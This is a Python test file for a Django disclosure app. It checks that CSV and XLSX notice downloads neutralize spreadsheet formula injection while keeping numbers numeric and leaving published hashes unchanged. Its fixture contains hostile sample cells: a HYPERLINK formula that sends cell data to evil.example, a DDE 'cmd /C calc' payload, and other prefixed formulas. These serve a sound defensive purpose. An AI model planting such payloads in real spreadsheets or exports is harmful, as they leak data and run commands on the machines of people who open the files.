"""Public notice downloads never carry a live formula (issue 10, item 2): the CSV and XLSX
neutralize text a spreadsheet would run, numbers stay numbers, and the published, hashed
items stay exactly as they were published."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from disclosure import services
from disclosure.hashing import content_hash
from tests.disclosure.conftest import publish

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
COLUMNS = [
    {"key": "estate", "label": "项目", "kind": "text"},
    {"key": "name", "label": "申请人", "kind": "name"},
    {"key": "note", "label": "备注", "kind": "text"},
    {"key": "floor", "label": "楼层", "kind": "number"},
    {"key": "area", "label": "面积", "kind": "number"},
]
ROWS = [
    {
        "_key": "A1",
        "estate": HYPERLINK,
        "name": "@SUM(1,2)",
        "note": "+1+cmd|' /C calc'!A0",
        "floor": -1,
        "area": 52.5,
    },
    {"_key": "A2", "estate": "幸福家园", "name": "张三", "note": "-2+3", "floor": 3, "area": 60},
    {"_key": "A3", "estate": "\t=1+1", "name": "李四", "note": "\r=1+1", "floor": 2, "area": 45},
]


@pytest.fixture
def hostile_notice(db):
    return publish(columns=COLUMNS, rows=ROWS, title="含公式的公示")


def test_the_csv_download_neutralizes_every_formula(client, hostile_notice):
    url = reverse("notice-csv", args=[hostile_notice.series_id, hostile_notice.version])
    body = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
    header, *records = list(csv.reader(io.StringIO(body)))
    assert header == [c["label"] for c in COLUMNS]
    cells = [cell for record in records for cell in record[:3]]  # the text columns
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert records[0][0] == "'" + HYPERLINK
    assert records[0][1].startswith("'@")  # masked, still a formula: neutralized
    assert records[1][2] == "'-2+3" and records[2][0] == "'\t=1+1"
    assert [r[3] for r in records] == ["-1", "3", "2"], "negative numbers stay numbers"


def test_the_xlsx_download_has_no_formula_cells(client, hostile_notice):
    url = reverse("notice-xlsx", args=[hostile_notice.series_id, hostile_notice.version])
    content = b"".join(client.get(url).streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert all(c.data_type != "f" for row in rows for c in row)
    assert rows[0][0].value == "'" + HYPERLINK and rows[0][0].data_type == "s"
    assert rows[2][2].value in ("'\r=1+1", "'\n=1+1")  # XML reads a lone CR back as LF
    assert [(r[3].value, r[3].data_type) for r in rows] == [(-1, "n"), (3, "n"), (2, "n")]
    assert rows[0][4].value == 52.5


def test_the_published_items_and_their_hash_are_untouched(client, hostile_notice):
    for name in ("notice-csv", "notice-xlsx"):
        url = reverse(name, args=[hostile_notice.series_id, hostile_notice.version])
        b"".join(client.get(url).streaming_content)
    hostile_notice.refresh_from_db()
    assert hostile_notice.items[0]["estate"] == HYPERLINK, "neutralized in the file only"
    assert hostile_notice.content_hash == content_hash(services.document_of(hostile_notice))
    json_url = reverse("notice-json", args=[hostile_notice.series_id, hostile_notice.version])
    assert HYPERLINK.replace('"', '\\"') in client.get(json_url).content.decode()
